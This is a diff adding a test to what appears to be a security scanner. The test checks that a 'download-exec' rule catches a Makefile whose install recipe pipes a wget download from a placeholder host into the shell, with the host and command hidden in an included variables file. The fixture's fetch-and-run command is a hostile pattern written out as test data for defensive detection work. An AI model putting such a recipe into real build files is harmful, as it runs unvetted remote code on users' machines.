@@ -467,3 +467,30 @@ def test_a_look_alike_host_only_named_stays_a_warning_and_a_country_suffix_is_no
     assert [sev for _, r, sev, _, _ in found({"requirements.txt": named}) if r == LOOK] == ["warning"]
     local = "#!/bin/sh\ncurl -fsS https://shop.example.com.au/feed.json -o feed.json\n"
     assert not [r for _, r, _, _, _ in found({"scripts/feed.sh": local}) if r == LOOK]
+
+
+# --- 15. a Makefile variant with its settings in an included file: the recipe is read with them --------------------
+
+MK_VARS = "HOST := get.release-tools.example\nGET := wget -qO-\nSRC = https://$(HOST)/install-$(OS).sh\n"
+MK_BAD = """include vars.mk
+
+OS := $(shell uname -s)
+
+install:
+\t@$(GET) $(SRC) | $(SHELL) -s -- --prefix=$(CURDIR)/out
+
+clean:
+\trm -rf $(CURDIR)/out
+"""
+MK_GOOD = MK_BAD.replace("@$(GET) $(SRC) | $(SHELL) -s -- --prefix=$(CURDIR)/out", "@$(GET) $(SRC) > out/install.sh")
+
+
+def test_a_makefile_variant_piping_a_download_named_in_an_included_file_to_make_s_shell_is_stopped(tmp_path, env):  # noqa: F811
+    from tests.audit.behavior.test_ruby_go_cli import audit
+
+    rule = "skillscope/obfuscation/download-exec"
+    code, findings = audit(tmp_path, env, "bad", {"build/Makefile.release": MK_BAD, "build/vars.mk": MK_VARS})
+    hits = [f for f in findings if f["id"] == rule and f["uri"].endswith("Makefile.release")]
+    assert code == 1 and hits and hits[0]["line"] == 6, findings
+    code, findings = audit(tmp_path, env, "good", {"build/Makefile.release": MK_GOOD, "build/vars.mk": MK_VARS})
+    assert code == 0 and not [f for f in findings if f["severity"] in ("warning", "error")], findings
